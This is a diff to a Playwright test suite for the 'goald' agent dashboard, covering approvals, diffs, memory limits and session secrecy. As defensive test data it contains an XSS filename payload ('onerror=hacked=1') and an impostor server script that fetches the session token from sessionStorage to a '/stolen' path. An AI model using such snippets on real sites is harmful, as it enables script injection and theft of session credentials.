@@ -15,8 +15,10 @@ const question = { name: "ask_user", args: { question: "Which <b>week</b>?" } } 
 const SCRIPTS: Readonly<Record<string, readonly CommandCall[]>> = {
   Writer: [write("plan.md", `${LONG}\n`), append("more\n", "plan.md")],
   Denied: [write("a.md", `${LONG}\n`), append("b\n", "b.md")],
+  One: [append("if x:\n    pay(1)\n", "one.py")],
+  Two: [append("2\n", "two.py")],
   Limited: [write("a.md", "1\n"), write("b.md", "2\n")],
-  Long: Array.from({ length: 200 }, (_, number) => append(`${number}\n`, "long.md")),
+  Long: Array.from({ length: 130 }, (_, number) => append(`${number}\n`, "long.md")),
   Asker: [question, append("The week is known.\n", "notes.md")],
   Hostile: [
     write("<img src=x onerror=hacked=1>.md", HOSTILE),
@@ -34,12 +36,14 @@ beforeAll(async () => {
   };
   home = await makeDaemonHome([], reply);
   for (const name of Object.keys(SCRIPTS)) {
-    const approve = name === "Writer" || name === "Denied" ? "always" : "never";
+    const approve = ["Writer", "Denied", "One", "Two"].includes(name) ? "always" : "never";
     const limit = name === "Limited" || name === "Long" ? ["--max-steps", "1"] : [];
     await home.goald.print(["run", "-d", "--name", name, "--role", "r", "-g", "Work", "--approve", approve, ...limit]);
   }
   await home.logged("approval-asked", 1, "writer");
   await home.logged("approval-asked", 1, "denied");
+  await home.logged("approval-asked", 1, "one");
+  await home.logged("approval-asked", 1, "two");
   await home.logged("command-waiting", 1, "asker");
   await home.logged("turn-finished", 1, "hostile");
   await home.logged("agent-paused", 1, "limited");
@@ -99,6 +103,33 @@ describe("the page in Chromium", () => {
     await home.until(async () => (await logOf("writer")).some(isApproval), "an approval by a person");
   });
 
+  it("shows the diff anew when a person makes or edits the file", async () => {
+    await using opened = await openPage();
+    await opened.go("#/a/denied/approve", ".diff");
+    await opened.page.getByText("new file", { exact: true }).waitFor();
+    await home.goald.write("workspace/denied/a.md", "Another text\n");
+    await opened.page.getByText("made against sha256").waitFor();
+    await opened.page.getByText("Another text").waitFor();
+  });
+
+  it("takes no second click for the command that has come where the first was", async () => {
+    await using opened = await openPage({ viewport: { width: 1_280, height: 2_000 } });
+    const sent: string[] = [];
+    opened.page.on("request", (request) => request.url().endsWith("/approval") && sent.push(request.url()));
+    const approve = opened.page.locator(".card", { hasText: "One wants" }).getByRole("button", { name: "Approve" });
+    await approve.click({ trial: true });
+    const { x, y } = (await approve.boundingBox()) as { readonly x: number; readonly y: number };
+    await opened.page.mouse.click(x + 9, y + 9);
+    await opened.page.getByText("One wants").waitFor({ state: "detached" });
+    await opened.page.mouse.click(x + 9, y + 9);
+    expect(sent).toEqual([expect.stringContaining("/agents/one/")]);
+    const next = opened.page.locator(".card", { hasText: "Two wants" }).getByRole("button", { name: "Approve" });
+    expect((await next.boundingBox())?.y).toBe(y);
+    await next.click();
+    await opened.page.getByText("Two wants").waitFor({ state: "detached" });
+    expect(sent).toHaveLength(2);
+  });
+
   it("denies with words, which the agent reads", async () => {
     await using opened = await openPage();
     await opened.go("#/a/denied/approve", ".diff");
@@ -151,13 +182,13 @@ describe("the page in Chromium", () => {
     await opened.go("#/a/long", ".step-row");
     await home.goald.print("resume long --max-steps none -d --approve never");
     await home.logged("turn-finished", 1, "long");
-    await opened.page.locator("#step-200").waitFor();
+    await opened.page.locator("#step-130").waitFor();
     const session = await opened.page.context().newCDPSession(opened.page);
     await session.send("HeapProfiler.collectGarbage");
     const { nodes } = await session.send("Memory.getDOMCounters");
-    // Each row has fifteen nodes. Rows of 200 steps would be 3,000 beside those of the page.
+    // Each row has fifteen nodes. Rows of 130 steps would be 2,000 beside those of the page.
     expect(await opened.page.locator(".step-row").count()).toBeLessThan(70);
-    expect(nodes).toBeLessThan(2_500);
+    expect(nodes).toBeLessThan(2_300);
   });
 
   it("answers a question on Home, and shows it as text", async () => {
@@ -178,7 +209,7 @@ describe("the page in Chromium", () => {
     expect(await opened.page.evaluate("typeof hacked")).toBe("undefined");
     expect([...opened.origins]).toEqual([new URL(opened.url).origin]);
     await opened.go("#/a/hostile/files/report.md", ".prose");
-    await opened.page.getByRole("group", { name: "Versions" }).getByRole("button").first().click();
+    await opened.page.getByRole("combobox", { name: "Versions" }).selectOption("step 3");
     await opened.page.getByRole("button", { name: "Restore to step" }).click();
     await opened.page.getByText("is again as it was after step 3").waitFor();
     expect(await home.goald.read("workspace/hostile/report.md")).toBe("1\n");
@@ -187,6 +218,7 @@ describe("the page in Chromium", () => {
   it("switches acts off while the daemon is gone, and goes on by itself when it is back, nothing twice", async () => {
     await using opened = await openPage();
     await opened.go("#/a/denied", "button:has-text('Stop…')");
+    await opened.page.getByText("you: Use short lines.").waitFor();
     const ages = /\b\d+ (?:s|min)\b/g;
     const timeline = async (): Promise<string> =>
       (await opened.page.locator(".step-row").allInnerTexts()).join().replaceAll(ages, "");
@@ -209,23 +241,44 @@ describe("the page in Chromium", () => {
     expect(opened.faults).toEqual([]);
   });
 
-  it("asks for a new address after `goald down`, and sends its secret and its key to no program in the daemon's place", async () => {
+  it("gives its secret and its key to no program in the daemon's place, on whatever screen and after a reload", async () => {
     await using opened = await openPage();
     await opened.page.locator(".row:not(.titles)").first().waitFor();
+    await opened.page.waitForLoadState("networkidle").catch(() => undefined);
     const secret = await opened.page.evaluate("sessionStorage.getItem('goald-session')");
-    await home.goald.print("down");
+    expect(secret).toMatch(/^[\da-f]{64}$/);
+    process.kill((await home.hostPid()) as number, "SIGKILL");
     const port = Number(new URL(opened.url).port);
+    await home.until(async () => (await fetch(opened.url).catch(() => null)) === null, "a free port");
     const heads: string[] = [];
-    const squatter = await listenOnLoopback(({ url, headers }, response) => {
+    const theft = "fetch('/stolen?' + sessionStorage.getItem('goald-session'))";
+    await using squatter = await listenOnLoopback(({ url = "", headers }, response) => {
       heads.push(JSON.stringify([url, headers]));
-      response.writeHead(404).end();
+      const isPage = url === "/" || url.endsWith(".ts");
+      response.writeHead(isPage ? 200 : 404, { "content-type": url === "/" ? "text/html" : "text/javascript" });
+      response.end(url === "/" ? `<script>${theft}</script>` : isPage ? theft : "");
     }, port);
     await home.until(async () => heads.some((head) => head.includes("/session/proof")), "a question to the program");
+    await opened.go("#/a/hostile/files/report.md", ".agent-head");
+    expect(heads.filter((head) => head.includes(".ts"))).toEqual([]);
+    await opened.page.reload();
+    await home.until(async () => heads.some((head) => head.includes("/stolen?")), "an attempt of the program");
     await squatter.close();
     expect(heads.filter((head) => head.includes(`${secret}`) || head.includes("authorization"))).toEqual([]);
-    await home.goald.print(["config", "daemon.port", `${port}`]);
-    await home.goald.json("dashboard");
+    await home.goald.print("up");
+  });
+
+  it("asks for a new address after `goald restart`, and takes it in the same tab", async () => {
+    await using opened = await openPage();
+    await opened.page.locator(".row:not(.titles)").first().waitFor();
+    await home.goald.print("restart");
     await opened.page.getByText("goald dashboard --open").waitFor();
+    await using again = await openPage();
+    await again.page.locator(".row:not(.titles)").first().waitFor();
+    const { url } = await home.goald.json<{ url: string }>("dashboard");
+    await again.page.goto(url);
+    await again.page.waitForURL(/#\/$/);
+    await again.page.locator(".row:not(.titles)").first().waitFor();
   });
 });
 
